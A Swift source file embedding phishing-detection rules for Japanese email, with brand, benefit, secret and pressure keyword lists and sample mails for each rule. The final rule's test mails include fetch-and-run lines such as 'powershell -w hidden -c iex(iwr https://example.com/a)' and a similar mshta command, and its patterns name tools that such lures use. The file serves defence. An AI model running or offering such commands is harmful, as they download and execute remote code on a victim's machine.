// What a message wants, and where its links lead.
extension ShippedRules {
  static let luresText = #"""
    [lists]
    # Names that phishing in Japan borrows, long enough not to be other words.
    brand = [
      "amazon", "アマゾン", "楽天市場", "楽天カード", "楽天証券", "rakuten", "三井住友カード", "三井住友銀行",
      "smbc", "三菱ufj", "みずほ銀行", "ゆうちょ銀行", "りそな銀行", "イオンカード", "イオン銀行", "aeon",
      "jcbカード", "my jcb", "myjcb", "セゾンカード", "エポスカード", "オリコ", "ビューカード", "えきねっと",
      "etc利用照会", "etcサービス", "メルカリ", "paypay", "paypay銀行", "paypal", "ヤマト運輸", "クロネコヤマト",
      "佐川急便", "日本郵便", "国税庁", "e-tax", "ntt docomo", "nttドコモ", "ドコモ", "auじぶん銀行", "kddi",
      "softbank", "ソフトバンク", "sbi証券", "野村證券", "マネックス証券", "松井証券", "大和証券", "東京電力",
      "東京ガス", "全日空", "日本航空", "jalマイレージ", "マイナポータル", "日本年金機構", "apple id", "icloud",
      "netflix", "microsoft", "docusign", "dhl", "fedex",
    ]
    brandOwner = [
      "amazon.co.jp", "amazon.com", "amazonses.com", "amazon.jp", "rakuten.co.jp", "rakuten.com",
      "rakuten-card.co.jp", "rakuten-sec.co.jp", "rakuten-bank.co.jp", "smbc-card.com", "smbc.co.jp",
      "vpass.ne.jp", "mufg.jp", "mizuhobank.co.jp", "mizuho-bk.co.jp", "jp-bank.japanpost.jp",
      "resonabank.co.jp", "aeon.co.jp", "aeonbank.co.jp", "aeon.jp", "jcb.co.jp", "saisoncard.co.jp",
      "eposcard.co.jp", "01epos.jp", "orico.co.jp", "viewsnet.jp", "eki-net.com", "jreast.co.jp",
      "etc-meisai.jp", "etc-user.jp", "mercari.jp", "mercari.com", "paypay.ne.jp", "paypay-bank.co.jp",
      "paypay-card.co.jp", "paypal.com", "kuronekoyamato.co.jp", "sagawa-exp.co.jp", "japanpost.jp",
      "nta.go.jp", "e-tax.nta.go.jp", "docomo.ne.jp", "nttdocomo.com", "nttdocomo.co.jp", "au.com",
      "kddi.com", "jibunbank.co.jp", "softbank.jp", "softbank.ne.jp", "softbank.co.jp", "sbisec.co.jp",
      "nomura.co.jp", "monex.co.jp", "matsui.co.jp", "daiwa.jp", "daiwa.co.jp", "tepco.co.jp",
      "tokyo-gas.co.jp", "ana.co.jp", "jal.com", "jal.co.jp", "myna.go.jp", "nenkin.go.jp", "apple.com",
      "icloud.com", "netflix.com", "microsoft.com", "microsoftonline.com", "office.com", "outlook.com",
      "hotmail.com", "live.com", "linkedin.com", "github.com", "docusign.net", "docusign.com", "dhl.com",
      "fedex.com",
    ]
    benefit = [
      "給付金", "支援金", "還付金", "助成金", "補助金", "協力金", "見舞金", "配布金", "当選金",
    ]
    secret = [
      "口座番号", "暗証番号", "カード番号", "クレジットカード情報", "セキュリティコード", "口座情報", "振込先口座",
      "お振込先", "マイナンバー", "ログイン情報", "パスワードの再設定", "本人確認", "お客様情報の確認", "個人情報の確認",
      "アカウント情報の更新", "お支払い方法の更新", "支払い方法を更新", "カード情報の更新", "所在確認",
    ]
    pressure = [
      "24時間以内", "48時間以内", "72時間以内", "本日中", "至急", "利用停止", "利用制限", "アカウントの停止",
      "凍結", "差し押さえ", "差押", "法的措置", "自動退会", "失効", "有効期限", "期限切れ", "ご確認いただけない場合",
      "確認が取れない場合", "一時的に制限", "強制解約", "不正利用", "異常なログイン", "不審なログイン",
    ]

    [[rule]]
    id = "phishing.brand-name"
    when = [
      'from.name contains @brand or from.name matches "^(apple|visa|mastercard|ana|jal|jcb|etc|au)( |$)"',
      'from.organization != "apple.com"',
      'not from.domain within @brandOwner',
      'not header.list-id',
      'not header.list-post',
    ]
    weight = 5
    class = "phishing"
    ja = "差出人の名前は「{from.name}」ですが、{from.domain} はその名の持ち主のドメインではありません。"
    en = "The sender is called “{from.name}”, but {from.domain} does not belong to whom that name belongs."
    references = ["https://www.antiphishing.jp/"]
    [[rule.example]]
    matches = true
    mail = ["From: Amazon.co.jp <no-reply@example.cn>", "", "x"]
    [[rule.example]]
    matches = false
    mail = ["From: Amazon.co.jp <no-reply@amazon.co.jp>", "", "x"]
    [[rule.example]]
    matches = false
    mail = ["From: Taro Yamada <taro@example.jp>", "", "Amazon"]

    [[rule]]
    id = "phishing.benefit-ja"
    when = [
      'hits(body.text, @benefit) >= 1 or hits(subject, @benefit) >= 1',
      'hits(body.text, @secret) >= 1',
      'link.count > 0 or form.field',
      'not from.domain within ["go.jp", "lg.jp"] or not auth.dmarc = "pass"',
    ]
    weight = 6
    class = "phishing"
    ja = "給付金などを口実に、口座や暗証番号などの入力を求めています。国や自治体がメールで求めることはありません。"
    en = "It promises a benefit payment and wants account details. No authority asks for them by mail."
    references = ["https://www.antiphishing.jp/", "https://www.soumu.go.jp/"]
    [[rule.example]]
    matches = true
    mail = [
      "Subject: 給付金10万配布につき、お客様の所在確認", "From: a@example.com",
      "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "",
      "給付金のお受け取りには口座番号の入力が必要です。", "https://example.com/form",
    ]
    [[rule.example]]
    matches = false
    mail = [
      "Subject: 給付金の話題", "Content-Type: text/plain; charset=utf-8",
      "Content-Transfer-Encoding: 8bit", "", "市の給付金について、来週の会議で相談しましょう。",
    ]

    [[rule]]
    id = "phishing.urgent-secret-ja"
    when = [
      'hits(body.text, @secret) >= 1',
      'hits(body.text, @pressure) >= 1',
      'link.count > 0',
      'not auth.dmarc = "pass" or from.name contains @brand and not from.domain within @brandOwner',
    ]
    weight = 4
    class = "phishing"
    ja = "期限や利用停止で急がせ、本人確認や口座・カード情報の入力へ誘導しています。"
    en = "It presses for time and leads to a page that wants identity, account or card details."
    [[rule.example]]
    matches = true
    mail = [
      "From: a@example.com", "Content-Type: text/plain; charset=utf-8",
      "Content-Transfer-Encoding: 8bit", "",
      "24時間以内に本人確認をお願いいたします。", "https://example.com/",
    ]
    [[rule.example]]
    matches = false
    mail = [
      "From: a@example.com", "Content-Type: text/plain; charset=utf-8",
      "Content-Transfer-Encoding: 8bit", "", "会議の資料は24時間以内に送ります。", "https://example.com/",
    ]

    [[rule]]
    id = "phishing.link-shows-other"
    when = ['link.mismatch', 'not link.mismatch within ["safelinks.protection.outlook.com", "urldefense.com", "urldefense.proofpoint.com", "linkprotect.cudasvc.com", "mimecastprotect.com"]', 'not header.list-id', 'not header.list-unsubscribe', 'not auth.dmarc = "pass"']
    weight = 3
    class = "phishing"
    ja = "リンクに表示されたアドレスと実際の行き先 ({link.mismatch}) が違います。"
    en = "A link shows one address and leads to another ({link.mismatch})."
    [[rule.example]]
    matches = true
    mail = [
      "Content-Type: text/html", "",
      "<a href='http://evil.example.cn/'>https://www.bank.example.jp/login</a>",
    ]
    [[rule.example]]
    matches = false
    mail = [
      "Content-Type: text/html", "",
      "<a href='https://login.bank.example.jp/'>https://www.bank.example.jp/login</a>",
    ]

    [[rule]]
    id = "link.disguised"
    when = 'link.disguise in ["numericHost", "encodedHost", "backslash"]'
    weight = 4
    class = "phishing"
    ja = "リンクの行き先が見えにくいように書かれています ({link.disguise})。"
    en = "A link is written so that nobody sees where it leads ({link.disguise})."
    references = ["https://url.spec.whatwg.org/"]
    [[rule.example]]
    matches = true
    mail = ["Content-Type: text/html", "", "<a href='http://0xcb007105/'>x</a>"]
    [[rule.example]]
    matches = false
    mail = ["Content-Type: text/html", "", "<a href='http://example.jp/'>x</a>"]

    [[rule]]
    id = "link.user-before-host"
    when = 'link.url matches "^https?://[^/@]*[.][^/@]*@"'
    weight = 4
    class = "phishing"
    ja = "リンクの @ より前に別のサイト名があり、本当の行き先を隠しています。"
    en = "A link has another site's name before an @, which hides where it really leads."
    [[rule.example]]
    matches = true
    mail = ["", "http://www.bank.example.jp@203.0.113.5/"]
    [[rule.example]]
    matches = false
    mail = ["", "http://www.bank.example.jp/a@b"]

    [[rule]]
    id = "link.address-for-host"
    when = ['link.host matches "^[0-9]+[.][0-9]+[.][0-9]+[.][0-9]+$"', 'not link.host matches "^(10|127|192[.]168|172[.](1[6-9]|2[0-9]|3[01]))[.]"', 'not header.list-id']
    weight = 2
    class = "phishing"
    ja = "リンクの行き先が名前でなく IP アドレスです。"
    en = "A link leads to a bare IP address."
    [[rule.example]]
    matches = true
    mail = ["", "http://203.0.113.5/login"]
    [[rule.example]]
    matches = false
    mail = ["", "http://192.168.0.1/"]

    [[rule]]
    id = "link.data"
    when = 'link.scheme in ["data", "javascript", "vbscript"]'
    weight = 5
    class = "phishing"
    ja = "リンクの中にページやプログラムそのものが埋め込まれています。"
    en = "A link holds a page or a program instead of leading to one."
    [[rule.example]]
    matches = true
    mail = ["Content-Type: text/html", "", "<a href='data:text/html;base64,PGI+'>x</a>"]
    [[rule.example]]
    matches = false
    mail = ["Content-Type: text/html", "", "<a href='https://example.jp/data:'>x</a>"]

    [[rule]]
    id = "link.program"
    when = ['link.program', 'not header.list-id']
    weight = 4
    class = "phishing"
    ja = "リンク先は、開くと動作するプログラムやスクリプト、ディスクイメージです ({link.program})。"
    en = "A link leads straight to a program, script or disk image ({link.program})."
    [[rule.example]]
    matches = true
    mail = ["Content-Type: text/html", "", "<a href='https://files.example/a/Invoice.pdf.js?id=1'>Invoice</a>"]
    [[rule.example]]
    matches = true
    mail = ["", "Please see https://files.example/Invoice%2Eiso"]
    [[rule.example]]
    matches = false
    mail = ["", "Please see https://www.example.com/index.php?file=a.exe and https://web.example/example.com"]
    [[rule.example]]
    matches = false
    mail = ["List-Id: <devel.example.org>", "", "The build is at https://files.example/setup.exe"]

    [[rule]]
    id = "link.risky-domain-ja"
    when = ['body.language = "ja"', 'link.host matches "[.](cn|top|cc|xyz|icu|cyou|shop|cfd|sbs|bond|vip|click|buzz|monster|quest|asia|ru)$"']
    weight = 2
    class = "phishing"
    ja = "日本語のメールですが、リンクは日本向けのフィッシングに多いドメイン ({link.host}) です。"
    en = "The mail is in Japanese, and its links lead to domains that phishing in Japan uses ({link.host})."
    [[rule.example]]
    matches = true
    mail = ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", "こちらをご覧ください。", "https://example.cn/"]
    [[rule.example]]
    matches = false
    mail = ["", "See https://example.cn/"]

    [[rule]]
    id = "phishing.form-password"
    when = 'form.field in ["password", "passwd", "pass", "pwd"]'
    weight = 6
    class = "phishing"
    ja = "メールの中にパスワードの入力欄があります。"
    en = "The message itself has a field for a password."
    [[rule.example]]
    matches = true
    mail = ["Content-Type: text/html", "", "<form action='https://example.cn/'><input type=password></form>"]
    [[rule.example]]
    matches = false
    mail = ["Content-Type: text/html", "", "<form><input type=text name=q></form>"]

    [[rule]]
    id = "phishing.charset-ja"
    when = ['body.language = "ja"', 'charset in ["gb2312", "gbk", "gb18030", "big5"]']
    weight = 3
    class = "phishing"
    ja = "日本語の本文が中国語の文字コード ({charset}) で書かれています。"
    en = "Japanese text is written in a Chinese charset ({charset})."
    [[rule.example]]
    matches = true
    facts = { "body.language" = "ja", charset = "gb2312" }
    [[rule.example]]
    matches = false
    facts = { "body.language" = "ja", charset = "iso-2022-jp" }

    [[rule]]
    id = "phishing.hidden-text"
    when = ['body.hidden.length > 600', 'body.hidden.length > body.length']
    weight = 2
    class = "phishing"
    ja = "見えない文字が見える文字より多くあります。"
    en = "More text is hidden than can be seen."
    [[rule.example]]
    matches = true
    facts = { "body.hidden.length" = 900, "body.length" = 100 }
    [[rule.example]]
    matches = false
    facts = { "body.hidden.length" = 90, "body.length" = 10 }

    [[rule]]
    id = "phishing.mailbox-en"
    when = [
      'body.text contains ["mailbox", "email account", "mail account", "webmail", "e-mail account"] or subject contains ["mailbox", "webmail", "email account"]',
      'hits(body.text, ["storage", "quota", "password expir", "password will expire", "deactivat", "suspend", "verify your", "validate", "undelivered", "pending message", "incoming messages", "keep same password", "keep current password", "re-confirm", "upgrade"]) >= 2',
      'link.count > 0', 'not header.list-id',
    ]
    weight = 4
    class = "phishing"
    ja = "メールボックスの容量やパスワードの期限を口実に、リンク先での確認を求めています。"
    en = "It says that the mailbox is full or its password expires, and wants that confirmed by a link."
    [[rule.example]]
    matches = true
    mail = ["", "Your mailbox storage is almost full. Verify your account to avoid suspension:", "http://example.com/"]
    [[rule.example]]
    matches = false
    mail = ["", "Please upgrade the webmail package: http://example.com/"]

    [[rule]]
    id = "phishing.paste-command"
    when = [
      'body.text contains ["win+r", "win + r", "windows+r", "windows + r", "windows key + r", "windowsキー+r", "windowsキー + r", "windowsキーとr", "ファイル名を指定して実行"]',
      'body.text contains ["powershell", "mshta", "msiexec", "rundll32", "conhost", "certutil", "cmd /c", "curl "]',
      'body.text contains ["http:", "https:", "iex", "iwr", "-enc", "hidden"]',
    ]
    weight = 10
    class = "phishing"
    ja = "コマンドを貼り付けて実行させようとしています。"
    en = "It has the reader paste a command and run it."
    [[rule.example]]
    matches = true
    mail = ["", "Press Win+R, paste this and press Enter:", "powershell -w hidden -c iex(iwr https://example.com/a)"]
    [[rule.example]]
    matches = true
    mail = ["Content-Type: text/plain; charset=utf-8", "", "Windowsキー+Rを押し、次を貼り付けてください。", "mshta https://example.com/a"]
    [[rule.example]]
    matches = false
    mail = ["", "Press Win+R, type cmd and tell us what ipconfig says. See https://example.com/"]
    """#
}
